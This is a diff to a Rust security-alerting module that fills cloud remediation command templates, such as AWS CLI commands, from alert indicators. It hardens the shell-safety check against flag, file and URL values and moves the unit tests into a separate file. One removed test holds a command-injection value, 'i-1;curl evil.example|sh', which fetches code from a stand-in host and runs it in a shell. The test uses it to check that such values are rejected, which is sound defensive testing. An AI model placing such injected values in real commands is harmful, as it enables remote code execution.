@@ -96,7 +96,7 @@ pub struct Action {
 
 /// Fills an action in; none where the catalogue has no such action for this alert's cloud, or where its text needs a
 /// value that is not known. `known` are the indicators of the case, `cleared` is what clears it. A command or an undo that
-/// lacks a value is left out.
+/// lacks a value is left out, and so is a command that is without what must be true first.
 #[must_use]
 pub fn fill(
     templates: &[Arc<ActionTemplate>],
@@ -117,11 +117,15 @@ pub fn fill(
         known,
         cleared,
     };
+    let command = values.option(template.command.as_deref(), true);
+    // Beside a command it holds commands of its own.
+    let precondition = values.option(template.precondition.as_deref(), template.command.is_some());
+    let is_told = precondition.is_some() || template.precondition.is_none();
     Some(Action {
         id: template.id.clone(),
         text: values.render(&template.text, false)?,
-        command: values.option(template.command.as_deref(), true),
-        precondition: values.option(template.precondition.as_deref(), false),
+        command: command.filter(|_| is_told),
+        precondition,
         side_effect: values.option(template.side_effect.as_deref(), false),
         undo: values.option(template.undo.as_deref(), true),
     })
@@ -236,11 +240,13 @@ impl Values<'_> {
     }
 }
 
-/// Whether a value may stand in a shell command without quotes: no blank, no quote, nothing that a shell reads, and no
-/// leading dash that a program would read as a flag.
+/// Whether a value may stand in a shell command without quotes: no blank, no quote, nothing that a shell reads, nothing that
+/// a program would read as a flag (`-`) or as a file (`@`) and zsh as a program (`=`), and no `://`: the AWS CLI puts what it
+/// reads at `file://` or an address in the value's place, and to gcloud a URL names a thing of any project.
 fn is_shell_safe(value: &str) -> bool {
     !value.is_empty()
-        && !value.starts_with('-')
+        && !value.starts_with(['-', '@', '='])
+        && !value.contains("://")
         && value.len() <= 256
         && value
             .chars()
@@ -248,230 +254,4 @@ fn is_shell_safe(value: &str) -> bool {
 }
 
 #[cfg(test)]
-mod tests {
-    use nightshift_alert::{Principal, PrincipalKind};
-
-    use super::*;
-    use crate::fixture;
-
-    fn template(command: &str) -> Vec<Arc<ActionTemplate>> {
-        vec![Arc::new(ActionTemplate {
-            id: "stop".into(),
-            provider: Some(Provider::Aws),
-            text: "Stop {instance}".into(),
-            command: Some(command.into()),
-            precondition: None,
-            side_effect: None,
-            undo: None,
-            when_cleared: false,
-        })]
-    }
-
-    fn choice(value: Option<&str>) -> ActionChoice {
-        ActionChoice {
-            id: "stop".into(),
-            indicators: value
-                .map(|value| Indicator::new(IndicatorKind::Instance, value, Role::Target))
-                .into_iter()
-                .collect(),
-        }
-    }
-
-    #[test]
-    fn fills_in_from_the_alert() {
-        let alert = fixture::alert();
-        let action = fill(
-            &template("aws ec2 stop-instances --instance-ids {instance} --region {region}"),
-            &choice(None),
-            &alert,
-            &[],
-            &[],
-        );
-        assert_eq!(
-            action.and_then(|action| action.command).as_deref(),
-            Some("aws ec2 stop-instances --instance-ids i-1 --region eu-west-1")
-        );
-    }
-
-    #[test]
-    fn a_brace_as_such_is_doubled() {
-        let braces = "put {{\"of\":{{\"id\":\"{instance}\"}}}}";
-        let action = fill(
-            &template(braces),
-            &choice(None),
-            &fixture::alert(),
-            &[],
-            &[],
-        );
-        assert_eq!(
-            action.and_then(|action| action.command).as_deref(),
-            Some("put {\"of\":{\"id\":\"i-1\"}}")
-        );
-    }
-
-    #[test]
-    fn a05_a_value_the_case_does_not_know_never_reaches_a_command() {
-        let alert = fixture::alert();
-        let action = fill(
-            &template("stop {instance}"),
-            &choice(Some("i-999")),
-            &alert,
-            &[],
-            &[],
-        );
-        assert_eq!(
-            action.and_then(|action| action.command).as_deref(),
-            Some("stop i-1")
-        );
-    }
-
-    #[test]
-    fn a05_a_value_with_shell_characters_leaves_the_command_out() {
-        let mut alert = fixture::alert();
-        alert.indicators = vec![Indicator::new(
-            IndicatorKind::Instance,
-            "i-1;curl evil.example|sh",
-            Role::Target,
-        )];
-        let action = fill(
-            &template("stop {instance}"),
-            &choice(None),
-            &alert,
-            &[],
-            &[],
-        );
-        assert_eq!(action.map(|action| action.command), Some(None));
-    }
-
-    /// What a template says of a principal, of which the feed told this.
-    fn command(template: &str, principal: &str, told: Option<(PrincipalKind, &str)>) -> String {
-        let mut alert = fixture::alert();
-        alert.account = Some("123456789012".into());
-        alert.indicators = vec![
-            Indicator::new(IndicatorKind::Principal, principal, Role::Actor),
-            Indicator::new(IndicatorKind::Instance, "i-1", Role::Target),
-        ];
-        let told = told.map(|(kind, id)| Principal {
-            name: principal.into(),
-            kind,
-            id: Some(id.into()),
-        });
-        alert.principals = told.into_iter().collect();
-        let action = fill(&self::template(template), &choice(None), &alert, &[], &[]);
-        action
-            .and_then(|action| action.command)
-            .unwrap_or_else(|| "none".to_owned())
-    }
-
-    fn names(principal: &str, told: Option<(PrincipalKind, &str)>) -> String {
-        let user = command("--user-name {user_name}", principal, told);
-        let role = command("--role-name {role_name}", principal, told);
-        let caller = command("{caller_name}", principal, told);
-        format!("{principal}: {user}; {role}; {caller}")
-    }
-
-    #[test]
-    fn an_arn_is_named_as_commands_want_it_and_not_where_it_is_of_another_kind() {
-        let shown = [
-            "alice",
-            "arn:aws:iam::123456789012:user/team/alice",
-            "arn:aws:iam::123456789012:role/service-role/deployer",
-            "arn:aws:sts::123456789012:assumed-role/deployer/i-0abc",
-            "arn:aws:iam::123456789012:root",
-            "arn:aws:iam::123456789012:user/x:role/deployer",
-            "arn:aws:iam::123456789012:user/x:assumed-role/a/b",
-            "arn:aws:iam::210987654321:user/alice",
-            "AROAEXAMPLEROLE000001:i-0abc",
-            "system:serviceaccount:default:web",
-        ]
-        .map(|principal| names(principal, None));
-        insta::assert_snapshot!(shown.join("\n"), @r"
-        alice: --user-name alice; --role-name alice; alice
-        arn:aws:iam::123456789012:user/team/alice: --user-name alice; none; alice
-        arn:aws:iam::123456789012:role/service-role/deployer: none; --role-name deployer; none
-        arn:aws:sts::123456789012:assumed-role/deployer/i-0abc: none; --role-name deployer; i-0abc
-        arn:aws:iam::123456789012:root: none; none; none
-        arn:aws:iam::123456789012:user/x:role/deployer: --user-name deployer; none; deployer
-        arn:aws:iam::123456789012:user/x:assumed-role/a/b: --user-name b; none; b
-        arn:aws:iam::210987654321:user/alice: none; none; alice
-        AROAEXAMPLEROLE000001:i-0abc: none; none; none
-        system:serviceaccount:default:web: none; none; none
-        ");
-    }
-
-    #[test]
-    fn a_role_that_has_a_bare_name_is_no_user_and_a_user_no_role() {
-        let shown = [
-            names(
-                "deployer",
-                Some((PrincipalKind::User, "AIDAEXAMPLE000000001")),
-            ),
-            names(
-                "deployer",
-                Some((PrincipalKind::Role, "AROAEXAMPLE000000001:i-0abc")),
-            ),
-            names(
-                "deployer",
-                Some((PrincipalKind::Role, "AROAEXAMPLE000000001")),
-            ),
-            names("root", Some((PrincipalKind::Root, "123456789012"))),
-            names("alice", Some((PrincipalKind::Other, "123456789012:alice"))),
-            names(
-                "AWSReservedSSO_Admin_0abc",
-                Some((PrincipalKind::Role, "AROAEXAMPLE000000001:alice")),
-            ),
-        ];
-        insta::assert_snapshot!(shown.join("\n"), @r"
-        deployer: --user-name deployer; none; deployer
-        deployer: none; --role-name deployer; i-0abc
-        deployer: none; --role-name deployer; none
-        root: none; none; none
-        alice: none; none; none
-        AWSReservedSSO_Admin_0abc: none; none; alice
-        ");
-    }
-
-    #[test]
-    fn where_no_feed_tells_what_a_principal_is_the_kind_of_its_keys_does() {
-        let named = |keys: &[&str]| {
-            let mut alert = fixture::alert();
-            let principal = Indicator::new(IndicatorKind::Principal, "deployer", Role::Actor);
-            let keys = keys
-                .iter()
-                .map(|key| Indicator::new(IndicatorKind::AccessKey, *key, Role::Actor));
-            alert.indicators = keys.chain([principal]).collect();
-            let value = |name: &str| {
-                let template = ActionTemplate {
-                    text: format!("{{{name}}}"),
-                    ..ActionTemplate::clone(&template("")[0])
-                };
-                fill(&[Arc::new(template)], &choice(None), &alert, &[], &[])
-                    .map_or_else(|| "none".to_owned(), |action| action.text)
-            };
-            ["user_name", "role_name", "long_term_key"]
-                .map(value)
-                .join("; ")
-        };
-        insta::assert_snapshot!(named(&["ASIAEXAMPLEKEY000001"]), @"none; deployer; none");
-        insta::assert_snapshot!(named(&["AKIAEXAMPLEKEY000001"]), @"deployer; none; AKIAEXAMPLEKEY000001");
-        insta::assert_snapshot!(named(&["AKIAEXAMPLEKEY000001", "ASIAEXAMPLEKEY000001"]), @"deployer; deployer; AKIAEXAMPLEKEY000001");
-    }
-
-    #[test]
-    fn a_service_account_is_no_person() {
-        let shown = |principal| {
-            let person = command("user:{person}", principal, None);
-            let account = command("{service_account}", principal, None);
-            format!("{person}; {account}")
-        };
-        insta::assert_snapshot!(shown("alice@example.com"), @"user:alice@example.com; none");
-        insta::assert_snapshot!(shown("1-compute@developer.gserviceaccount.com"), @"none; 1-compute@developer.gserviceaccount.com");
-    }
-
-    #[test]
-    fn an_action_of_another_cloud_is_not_offered() {
-        let mut alert = fixture::alert();
-        alert.provider = Provider::Gcp;
-        assert_eq!(fill(&template("x"), &choice(None), &alert, &[], &[]), None);
-    }
-}
+mod tests;
